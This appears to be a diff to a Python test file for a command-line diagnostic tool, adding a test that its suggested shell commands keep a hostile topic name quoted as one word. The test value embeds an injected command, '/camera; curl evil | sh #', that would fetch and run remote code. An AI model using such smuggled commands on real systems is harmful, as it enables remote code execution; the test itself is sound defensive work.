@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 from tests.cli.run import PICK, run
@@ -57,3 +58,16 @@ def test_cell_that_cannot_be_read_is_reported(tmp_path: Path) -> None:
 def test_hostile_log_line_cannot_steer_the_terminal() -> None:
     line = "Could not initialize the controller named 'a\x1b[2Jb'"
     assert "\x1b" not in run("diagnose", line, PICK).out
+
+
+def test_command_to_copy_holds_a_hostile_name_as_one_word(tmp_path: Path) -> None:
+    text = Path(PICK).read_text(encoding="utf-8")
+    topic = next(
+        line.strip() for line in text.splitlines() if line.strip().startswith("/") and line.strip().endswith(":")
+    )
+    hostile = "/camera; curl evil | sh #"
+    (tmp_path / "cell.yaml").write_text(text.replace(topic, f'"{hostile}":'), encoding="utf-8")
+    out = run("diagnose", f"topic {hostile} exists and no data", (tmp_path / "cell.yaml").as_posix()).out
+    commands = [line.strip() for line in out.splitlines() if line.strip().startswith("$ ") and "curl" in line]
+    assert commands
+    assert all(hostile in shlex.split(command) for command in commands)
